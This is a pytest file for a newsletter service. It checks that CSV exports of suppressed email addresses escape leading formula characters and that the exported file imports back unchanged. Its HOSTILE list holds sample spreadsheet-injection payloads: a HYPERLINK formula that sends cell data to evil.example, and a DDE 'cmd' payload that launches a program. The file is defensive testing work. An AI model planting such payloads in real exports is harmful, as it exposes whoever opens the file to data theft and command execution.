"""Hardening of issue 13: a CSV export never hands a spreadsheet a formula (OWASP CSV Injection).

A hostile reader signs up with an address that is a formula (``=``, ``+``, ``-`` are legal at
the start of a local part, RFC 5322 §3.2.3) and gets suppressed; the operator exports the
suppressions with the CLI and opens the file. Then the file is imported back unchanged.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from worker.cli import main
from worker.csv_cells import FORMULA_STARTS, read_cell, write_cell
from worker.models import Suppression
from worker.runtime import Runtime
from worker.subscriptions.suppressions import suppress

HOSTILE = [
    '=hyperlink("https://evil.example/?"&a1)@example.org',
    "=cmd|'/c calc'!a0@example.org",
    "+447700900123@example.org",
    "-2+3@example.org",
    "@sum(1+1)@example.org",
    "'=already-quoted@example.org",
    "anna@example.org",
]


def _env(rt: Runtime, db_url: str) -> dict[str, str]:
    return {"NEWSLETTER_DATABASE_URL": db_url, "NEWSLETTER_SECRET_KEY": rt.settings.secret_key}


def test_exported_cells_never_start_a_formula_and_import_back(
    rt: Runtime, db_url: str, tmp_path: Path
) -> None:
    # Given suppressed addresses that are formulas
    with rt.session() as session:
        for address in HOSTILE:
            suppress(
                session,
                dedupe_key=address,
                hash_key=rt.settings.secret_key,
                reason="manual",
                now=rt.clock.now(),
            )
    # When the operator exports them
    target = tmp_path / "suppressions.csv"
    exported = CliRunner().invoke(
        main, ["suppressions", "export", str(target)], env=_env(rt, db_url)
    )
    assert exported.exit_code == 0, exported.output
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    # Then no cell starts as a formula would, and the addresses are there, quoted
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    emails = [row[0] for row in rows[1:]]
    assert "'=cmd|'/c calc'!a0@example.org" in emails and "anna@example.org" in emails
    assert "''=already-quoted@example.org" in emails
    # And importing the file back (after lifting them) restores exactly the same addresses
    with rt.session() as session:
        session.query(Suppression).delete()
    imported = CliRunner().invoke(
        main, ["suppressions", "import", str(target)], env=_env(rt, db_url)
    )
    assert imported.exit_code == 0, imported.output
    with rt.session() as session:
        assert sorted(s.email or "" for s in session.query(Suppression)) == sorted(HOSTILE)


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_each_formula_start_is_escaped(start: str) -> None:
    assert write_cell(start + "x") == "'" + start + "x"
    assert read_cell(write_cell(start + "x")) == start + "x"


@given(st.text())
def test_read_cell_undoes_write_cell(value: str) -> None:
    written = write_cell(value)
    assert not written.startswith(FORMULA_STARTS)
    assert read_cell(written) == value
